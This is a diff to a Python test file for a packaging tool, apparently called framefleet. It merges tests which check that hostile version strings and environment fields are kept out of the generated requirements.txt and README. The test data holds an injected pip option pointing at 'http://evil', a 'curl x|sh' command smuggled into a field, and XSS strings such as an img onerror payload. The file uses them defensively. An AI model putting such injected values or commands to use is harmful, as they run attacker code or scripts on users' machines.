@@ -171,16 +171,6 @@ def test_what_cannot_be_packed_is_refused(out: Path, tmp_path: Path) -> None:
     assert not pack.exists()
 
 
-def test_what_a_record_calls_a_version_is_no_option_of_pip_and_no_command(out: Path, tmp_path: Path) -> None:
-    hostile = {"framefleet": "0.1.0\n--index-url http://evil", "python": "3; curl x|sh #", "torch": 5}
-    changed_environments(out, *[hostile] * 4)
-    framefleet.pack(out, tmp_path / "pack")
-    pinned, page = ((tmp_path / "pack" / name).read_text() for name in ("requirements.txt", "README.md"))
-    assert "diffusers==" in pinned
-    assert not [word for word in ("evil", "framefleet", "torch=") if word in pinned]
-    assert "python3 -m venv" in page and "curl" not in page
-
-
 def changed_environments(out: Path, *changed: dict[str, Any], job: str | None = None, **columns: str) -> None:
     """Have the first records say something else of where they were rendered; and all of them of columns."""
 
@@ -194,15 +184,21 @@ def changed_environments(out: Path, *changed: dict[str, Any], job: str | None = 
         (out / "job.json").write_text(job)
 
 
-def test_what_a_stranger_calls_a_library_is_not_installed_and_html_is_text(out: Path, tmp_path: Path) -> None:
+def test_what_a_record_says_of_versions_is_no_option_of_pip_and_no_command_and_html_is_text(
+    out: Path, tmp_path: Path
+) -> None:
     job = json.loads((out / "job.json").read_text())
     job["versions"] |= {"evil-package": "6.6"}
     html = "<img src=x onerror=alert(1)> [a](javascript:b) ![c](http://d) `e` | f"
-    hostile = {"evil-package": "6.6", "gpu": html, "device": "cuda", "cpu": html}
+    hostile = {"framefleet": "0.1.0\n--index-url http://evil", "python": "3; curl x|sh #", "torch": 5}
+    hostile |= {"evil-package": "6.6", "gpu": html, "device": "cuda", "cpu": html}
     changed_environments(out, *[hostile] * 4, job=json.dumps(job), model=html)
     framefleet.pack(out, tmp_path / "pack")
-    assert "evil" not in "".join(file.read_text() for file in (tmp_path / "pack").glob("requirements*.txt"))
+    pinned = "".join(file.read_text() for file in (tmp_path / "pack").glob("requirements*.txt"))
+    assert "diffusers==" in pinned
+    assert not [word for word in ("evil", "framefleet", "torch=") if word in pinned]
     page = (tmp_path / "pack" / "README.md").read_text()
+    assert "python3 -m venv" in page and "curl" not in page
     assert "<img" not in page and "&lt;img" in page
     assert not [word for word in ("[a](", "![c]", " `e`", " | f") if word in page]
 
